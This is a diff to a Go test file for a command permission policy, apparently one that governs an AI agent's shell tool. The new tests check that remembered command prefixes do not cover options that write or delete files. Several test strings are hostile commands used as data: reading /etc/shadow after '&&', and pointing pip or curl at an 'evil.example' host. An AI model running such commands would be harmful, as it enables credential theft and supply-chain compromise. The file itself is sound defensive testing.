@@ -252,7 +252,10 @@ func TestGrants(t *testing.T) {
 		{"exact grant does not cover other arguments", "pip install requests evil", exact, policy.Ask},
 		{"prefix grant", "pip install numpy", prefix, policy.Allow},
 		{"prefix is by words", "curl https://pypi.org.evil.example/x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Ask},
-		{"prefix by words matches", "curl https://pypi.org -o x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Allow},
+		{"prefix by words matches", "curl https://pypi.org -s", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Allow},
+		{"a prefix does not cover an option that writes a file", "curl https://pypi.org -o x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Ask},
+		{"nor one in a cluster", "curl https://pypi.org -sSLo x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Ask},
+		{"nor one with its value attached", "curl https://pypi.org --output=x", []policy.Grant{{ID: "g", Tool: "bash", Prefix: []string{"curl", "https://pypi.org"}}}, policy.Ask},
 		{"grants never override a deny", "pip install requests && cat /etc/shadow", exact, policy.Deny},
 		{"a prefix does not cover environment assignments", "PIP_INDEX_URL=https://evil.example pip install numpy", prefix, policy.Ask},
 		{"nor an env wrapper", "env PIP_INDEX_URL=https://evil.example pip install numpy", prefix, policy.Ask},
@@ -287,6 +290,49 @@ func TestGrants(t *testing.T) {
 	}
 	if _, err := policy.GrantsFor("r", "forever", "bash", &d, nil); err == nil {
 		t.Error("GrantsFor(bad scope) = nil")
+	}
+}
+
+// A remembered prefix covers the words after it only when they do not
+// make the program write or delete files, as a redirection would.
+func TestPrefixDoesNotCoverWrites(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		prefix, words string
+		want          bool
+	}{
+		{"git diff", "git diff --stat", true},
+		{"git diff", "git diff --output=src/app.py", false},
+		{"git diff", "git diff --output src/app.py", false},
+		{"sort", "sort -u notes.txt", true},
+		{"sort", "sort -o notes.txt notes.txt", false},
+		{"sort", "sort -uo notes.txt notes.txt", false},
+		{"sort", "sort -onotes.txt notes.txt", false},
+		{"sort -o notes.txt", "sort -o notes.txt notes.txt", true},
+		{"sed", "sed -n 1p notes.txt", true},
+		{"sed", "sed -i s/a/b/ notes.txt", false},
+		{"sed", "sed --in-place=.bak s/a/b/ notes.txt", false},
+		{"perl", "perl -pi -e s/a/b/ notes.txt", false},
+		{"find .", "find . -name x", true},
+		{"find .", "find . -name x -delete", false},
+		{"find .", "find . -fprint0 list.txt", false},
+		{"uniq", "uniq notes.txt", true},
+		{"uniq", "uniq notes.txt out.txt", false},
+		{"uniq notes.txt out.txt", "uniq notes.txt out.txt", true},
+		{"curl https://pypi.org", "curl https://pypi.org -sSL", true},
+		{"curl https://pypi.org", "curl https://pypi.org -sSLo x", false},
+		{"gcc", "gcc -fno-strict-aliasing -c a.c", true},
+		{"gcc", "gcc -c a.c -o /tmp/a.o", false},
+		{"wget", "wget -qO page.html https://x", false},
+	} {
+		t.Run(tt.words, func(t *testing.T) {
+			words := strings.Fields(tt.words)
+			g := &policy.Grant{Tool: "bash", Prefix: strings.Fields(tt.prefix)}
+			p := &policy.Part{Command: words[0], Words: words}
+			if got := g.Matches("bash", p); got != tt.want {
+				t.Errorf("prefix %q matches %q = %v, want %v", tt.prefix, tt.words, got, tt.want)
+			}
+		})
 	}
 }
 
